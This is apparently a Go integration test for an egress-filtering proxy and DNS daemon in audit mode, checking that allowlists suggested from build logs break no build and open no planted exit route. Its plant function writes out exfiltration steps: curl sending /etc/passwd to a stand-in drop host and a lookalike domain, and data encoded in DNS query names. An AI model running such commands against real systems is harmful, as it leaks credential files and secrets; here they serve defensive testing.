package test

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/miekg/dns"
)

// TestSuggestRealBuilds has two runners and a container build fetch modules,
// packages, a repository and files through Sallyport in audit, and then plants
// three ways out in both runners. What suggest makes of the log is at most a
// fifth longer than what a careful person wrote for it, breaks no build, and
// opens none of the three.
func TestSuggestRealBuilds(t *testing.T) {
	t.Parallel()
	w := newBuildWorld(t)
	t.Run("builds", func(t *testing.T) {
		for _, j := range w.runners {
			t.Run(j.name, func(t *testing.T) {
				t.Parallel()
				w.build(j.with(t))
			})
		}
		t.Run("container", func(t *testing.T) {
			t.Parallel()
			w.buildContainer(t)
		})
	})
	if t.Failed() {
		return
	}
	builds := w.logged("builds.jsonl")
	for _, j := range w.runners {
		w.plant(j)
	}
	w.d.stop()
	w.check(builds, w.logged("all.jsonl"))
}

// A buildWorld is a daemon in audit, those who build behind it, and the servers
// that they fetch from.
type buildWorld struct {
	t       *testing.T
	d       *daemon
	runners []*jobSpace
	inner   string // network of the container build
	git     *gitServer
	drop    *origin // of what is carried out
	modules string  // GOPROXY
	suites  string  // apt's sources
	hosts   map[string][]realHost
}

// listedBefore is the line that the pool has at the start.
const listedBefore = "      - artifacts.example\n"

func newBuildWorld(t *testing.T) *buildWorld {
	t.Helper()
	needRoot(t)
	needProgram(t, "go", "apt-get", "dpkg-deb", "git", "curl", "docker", "busybox", "getent")
	need(t, exec.Command("docker", "info").Run() == nil, "a Docker engine that answers")
	w := &buildWorld{t: t, git: newGitServer(t), runners: []*jobSpace{newJobSpace(t), newJobSpace(t)}}
	goproxy, goHost := moduleSource(t)
	_, w.suites = packageSources(t)
	w.modules, w.hosts = goproxy, map[string][]realHost{"MODULES": {goHost}, "PACKAGES": packageHosts(t)}

	files := standInAddress()
	cert := w.git.ca.issue("assets.example", "mirror1.files.example", "mirror2.files.example", "mirror3.files.example", "tools.corp.example", "artifact5.example")
	httpOrigin(t, net.JoinHostPort(files, "443"), &cert)
	httpOrigin(t, net.JoinHostPort(files, "8443"), &cert)
	gate := w.runners[0].gateway
	w.drop = httpOrigin(t, net.JoinHostPort(gate, "443"), &cert)

	records := []string{"git.example. 300 IN A " + w.git.addr, "assets.example. 60 IN CNAME edge7.cdn.example.", "artifact5.example. 60 IN A " + gate}
	for _, name := range []string{"edge7.cdn.example", "mirror1.files.example", "mirror2.files.example", "mirror3.files.example", "tools.corp.example"} {
		records = append(records, name+". 60 IN A "+files)
	}
	nets := []string{files + "/32", w.git.addr + "/32", gate + "/32"}
	for _, hosts := range w.hosts {
		for _, h := range hosts {
			records, nets = append(records, h.records()...), append(nets, h.nets...)
		}
	}
	zone := newZone(t, records...)
	zone.setAnswer(func(q dns.Question) []dns.RR {
		if !strings.HasSuffix(strings.ToLower(q.Name), ".drop.example.") || q.Qtype != dns.TypeA {
			return nil
		}
		rr, _ := dns.NewRR(q.Name + " 1 IN A 93.184.216.34")
		return []dns.RR{rr}
	})
	w.start(zone.addr, strings.Join(nets, ", "))
	return w
}

// start runs the daemon, at the first runner's gateway and on the engine's side
// of a network for containers. Every runner reaches it.
func (w *buildWorld) start(upstream, nets string) {
	w.t.Helper()
	tag := newTag(w.t, "suggest")
	w.inner = tag + "-inner"
	w.t.Cleanup(func() { removeAll(w.t, w.inner, tag+":") })
	docker(w.t, "network", "create", "--internal", w.inner)
	bridge := inspect(w.t, w.inner, "{{(index .IPAM.Config 0).Gateway}}")
	sources := []string{inspect(w.t, w.inner, "{{(index .IPAM.Config 0).Subnet}}")}
	gate := w.runners[0].gateway
	for _, j := range w.runners {
		sources = append(sources, j.client+"/32")
		j.goBy(gate)
	}
	w.d = prepare(w.t, config{ip: gate})
	w.d.dns = net.JoinHostPort(gate, "53")
	w.d.listen = fmt.Sprintf("{proxy: [%q, %q], dns: %q, admin: %q}", w.d.proxy, net.JoinHostPort(bridge, "3128"), w.d.dns, w.d.admin)
	w.d.write(upstream, "  build:\n    mode: audit\n    sources: ["+strings.Join(sources, ", ")+"]\n    resolves_to: ["+nets+"]\n    allow:\n"+listedBefore)
	w.d.run()
}

// with is the same namespace for a subtest.
func (j *jobSpace) with(t *testing.T) *jobSpace {
	sub := *j
	sub.t = t
	return &sub
}

// goBy makes another address of the machine the namespace's gateway.
func (j *jobSpace) goBy(gate string) {
	j.t.Helper()
	if gate == j.gateway {
		return
	}
	if out, err := exec.Command("ip", "-n", j.name, "route", "add", gate+"/32", "via", j.gateway).CombinedOutput(); err != nil {
		j.t.Fatalf("%v: %s", err, out)
	}
	j.gateway = gate
	if err := os.WriteFile(filepath.Join("/etc/netns", j.name, "resolv.conf"), []byte("nameserver "+gate+"\n"), 0o644); err != nil {
		j.t.Fatal(err)
	}
}

// build is what a runner's job does.
func (w *buildWorld) build(j *jobSpace) {
	j.t.Helper()
	if out, err := j.fetchModule(w.modules); err != nil {
		j.t.Fatalf("%v\n%s", err, out)
	}
	if packages := j.fetchPackages(w.suites, smallPackages[:3]...); packages < 3 {
		j.t.Errorf("only %d packages came", packages)
	}
	env := []string{"GIT_SSL_CAINFO=" + w.git.ca.file}
	for _, args := range [][]string{
		{"git", "clone", "-q", "--recurse-submodules", "https://git.example/repo.git", filepath.Join(j.t.TempDir(), "repo")},
		{"getent", "ahosts", "assets.example"},
		{"curl", "-fsS", "--cacert", w.git.ca.file, "https://assets.example/a", "https://mirror1.files.example/b", "https://mirror2.files.example/c", "https://tools.corp.example:8443/d"},
	} {
		if out, err := j.run(env, args...); err != nil {
			j.t.Fatalf("%v: %v\n%s", args, err, out)
		}
	}
}

// suggestBuildFile clones and fetches.
const suggestBuildFile = `ARG BASE
FROM $BASE
RUN GIT_SSL_CAINFO=/ca.pem git clone -q https://git.example/repo.git /src && test -f /src/file39
RUN curl -fsS --cacert /ca.pem -o /tool https://mirror1.files.example/tool https://mirror3.files.example/tool
`

// buildContainer builds an image on the network whose one way out is the
// daemon, from this machine's git and curl.
func (w *buildWorld) buildContainer(t *testing.T) {
	t.Helper()
	f := &fleet{t: t, tag: strings.TrimSuffix(w.inner, "-inner"), ca: w.git.ca, standin: buildStandin(t)}
	core := w.git.exec("git", "--exec-path")
	busybox, _ := exec.LookPath("busybox")
	git, _ := exec.LookPath("git")
	remote := filepath.Join(core, "git-remote-https")
	more := map[string]string{"/bin/sh": busybox, "/bin/test": busybox, "/bin/git": git, remote: remote}
	image := f.runnerImage(more, loadedBy(t, git, remote))
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "Dockerfile"), []byte(suggestBuildFile), 0o644); err != nil {
		t.Fatal(err)
	}
	proxy := "http://" + net.JoinHostPort(inspect(t, w.inner, "{{(index .IPAM.Config 0).Gateway}}"), "3128")
	args := []string{"build", "--force-rm", "--no-cache", "--network", w.inner, "-t", f.tag + ":built", "--build-arg", "BASE=" + image}
	for _, name := range []string{"HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy"} {
		args = append(args, "--build-arg", name+"="+proxy)
	}
	build := exec.Command("docker", append(args, dir)...)
	build.Env = append(os.Environ(), "DOCKER_BUILDKIT=0") // the other builder comes from a registry
	if out, err := build.CombinedOutput(); err != nil {
		t.Fatalf("%v\n%s\n%s", err, out, w.d.dump())
	}
}

// plant carries something out of a runner in three ways: to an address, to a
// name that looks like one of the list, and in names of questions.
func (w *buildWorld) plant(j *jobSpace) {
	w.t.Helper()
	accepted, _ := w.drop.counts()
	for _, url := range []string{"https://" + w.drop.ip + "/", "https://artifact5.example/"} {
		if out, err := j.run(nil, "curl", "-fsSk", "--data-binary", "@/etc/passwd", url); err != nil {
			w.t.Fatalf("%s: %v\n%s", url, err, out)
		}
	}
	if now, _ := w.drop.counts(); now != accepted+2 {
		w.t.Errorf("%d connections came, not 2: audit forwards", now-accepted)
	}
	at, err := os.Open(filepath.Join("/run/netns", j.name))
	if err != nil {
		w.t.Fatal(err)
	}
	defer at.Close()
	s := &space{t: w.t, name: j.name, at: at, patient: patience}
	conn, err := s.dial("udp", w.d.dns, "")
	if err != nil {
		w.t.Fatal(err)
	}
	defer conn.Close()
	for i := range 150 { // the same in each runner, so that no name is of a single job
		piece := sha256.Sum256([]byte{byte(i)})
		m := new(dns.Msg).SetQuestion(hex.EncodeToString(piece[:25])+".drop.example.", dns.TypeA)
		if _, _, err := new(dns.Client).ExchangeWithConn(m, &dns.Conn{Conn: conn}); err != nil {
			w.t.Fatal(err)
		}
	}
}

// logged copies the whole lines of the log, and gives the copy's name.
func (w *buildWorld) logged(name string) string {
	w.t.Helper()
	text, err := os.ReadFile(w.d.path("events.jsonl"))
	if err == nil {
		err = os.WriteFile(w.d.path(name), text[:strings.LastIndexByte(string(text), '\n')+1], 0o644)
	}
	if err != nil {
		w.t.Fatal(err)
	}
	return name
}
